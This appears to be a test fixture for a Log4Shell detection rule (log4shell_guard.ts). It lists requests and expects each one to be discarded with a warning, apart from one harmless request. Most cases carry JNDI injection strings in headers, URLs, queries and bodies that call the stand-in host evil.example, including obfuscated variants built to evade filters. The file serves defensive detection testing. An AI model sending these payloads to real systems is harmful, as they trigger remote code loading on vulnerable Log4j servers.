#: rule log4shell_guard.ts
#: client 203.0.113.7
#: request POST /search?q=%24100
#: header User-Agent: Mozilla/5.0 {jndi}

#: case an ordinary request             #: body price=$5&template={name}&shell=${HOME}
# decision: none

#: case in a header                     #: header X-Api-Version: ${jndi:ldap://evil.example/a}
# decision: discard                     # expect[warn]: A look-up of Log4j from 203.0.113.7

#: case in other letters                #: header Referer: ${JnDi:dns://evil.example}
# decision: discard                     # expect[warn]: A look-up of Log4j from 203.0.113.7

#: case escaped in the URL              #: request GET /%24%7Bjndi:ldap://evil.example/a%7D
# decision: discard                     # expect[warn]: A look-up of Log4j from 203.0.113.7

#: case in the query                    #: request GET /?q=$%7bjndi:rmi://evil.example%7d
# decision: discard                     # expect[warn]: A look-up of Log4j from 203.0.113.7

#: case in the body                     #: body {"name":"${jndi:ldap://evil.example/a}"}
# decision: discard                     # expect[warn]: A look-up of Log4j from 203.0.113.7

#: case cut up further                  #: header User-Agent: ${j${lower:n}di:ldap://evil.example/a}
# decision: discard                     # expect[warn]: A look-up of Log4j from 203.0.113.7

#: case cut up                          #: header User-Agent: ${${lower:j}ndi:ldap://evil.example/a}
# decision: discard                     # expect[warn]: A look-up of Log4j from 203.0.113.7

#: case by defaults                     #: header User-Agent: ${env:X:-j}${::-n}di:ldap://evil.example/a}
# decision: discard                     # expect[warn]: A look-up of Log4j from 203.0.113.7
